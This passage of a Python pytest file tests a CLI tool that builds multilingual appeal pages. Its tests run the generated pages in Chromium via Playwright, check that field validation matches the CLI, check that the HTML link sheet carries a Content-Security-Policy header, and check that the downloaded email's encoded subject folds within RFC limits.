def chromium_browser():  # type: ignore[no-untyped-def]
    """Chromium through Playwright, started before each test blocks sockets."""
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        if os.environ.get("APPEAL_REQUIRE_BROWSER") == "1":
            pytest.fail("Playwright is not installed but APPEAL_REQUIRE_BROWSER=1")
        pytest.skip("Playwright is not installed")
    if not Path("/usr/bin/chromium").exists():
        if os.environ.get("APPEAL_REQUIRE_BROWSER") == "1":
            pytest.fail("/usr/bin/chromium is missing but APPEAL_REQUIRE_BROWSER=1")
        pytest.skip("Chromium is not installed")
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path="/usr/bin/chromium", args=["--no-sandbox", "--disable-gpu"]
        )
        yield chromium
        chromium.close()


def _open_page(browser, folder: Path, language: str):  # type: ignore[no-untyped-def]
    target = folder / f"{language}.html"
    result = CliRunner().invoke(cli, ["page", "-o", str(target), "--lang", language])
    assert result.exit_code == 0, result.stderr
    page = browser.new_page()
    page.goto(target.as_uri())
    return page


@pytest.fixture(scope="module")
def page_in_browser(chromium_browser, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The English action page in Chromium."""
    return _open_page(chromium_browser, tmp_path_factory.mktemp("page"), "en")


@pytest.mark.browser
@pytest.mark.parametrize("fields", FIELD_CASES, ids=[str(i) for i in range(len(FIELD_CASES))])
def test_page_field_checks_equal_the_cli(page_in_browser, fields: dict[str, str]) -> None:  # type: ignore[no-untyped-def]
    verdict = page_in_browser.evaluate(
        """(fields) => { try { window.appealDrafts(fields); return true; }
                         catch (e) { return false; } }""",
        {"country": "DE", "name": "Anna", "city": "", "email": "", "note": "", **fields},
    )
    assert verdict == _cli_verdict(fields)


def test_html_link_sheet_carries_the_policy() -> None:
    result = run("links", "-c", "NO", "--format", "html")
    assert result.exit_code == 0, result.stderr
    head = result.stdout.split("<head>", 1)[1]
    assert head.startswith(
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';'
    )


@pytest.fixture(scope="module")
def russian_page_in_browser(chromium_browser, tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    """The Russian action page in Chromium."""
    return _open_page(chromium_browser, tmp_path_factory.mktemp("page"), "ru")


@pytest.mark.browser
def test_page_eml_subject_folds_within_75_characters(russian_page_in_browser) -> None:  # type: ignore[no-untyped-def]
    page = russian_page_in_browser
    page.fill("#country", "DE")
    page.fill("#name", "Анна Шмидт")
    page.fill("#email", "anna@example.org")
    page.click("#make")
    href = page.get_attribute("a[download]", "href")
    subject = page.evaluate("appealDrafts({country: 'DE', name: 'Анна Шмидт'})[0].subject")
    assert href is not None and href.startswith("data:message/rfc822;base64,")
    data = base64.b64decode(href.split(",", 1)[1])
    head = data.split(b"\r\n\r\n", 1)[0].decode("ascii")
    words = re.findall(r"=\?[^?]+\?[bqBQ]\?[^?]*\?=", head)
    assert len(words) > 1 and all(len(word) <= 75 for word in words)
    assert all(len(line) <= 78 for line in head.split("\r\n"))
    parsed = BytesParser(policy=default_policy).parsebytes(data)
    assert str(parsed["Subject"]) == subject
    assert parsed["Bcc"] is None
    assert parsed["From"].addresses[0].addr_spec == "anna@example.org"
    assert parsed["From"].addresses[0].display_name == "Анна Шмидт"
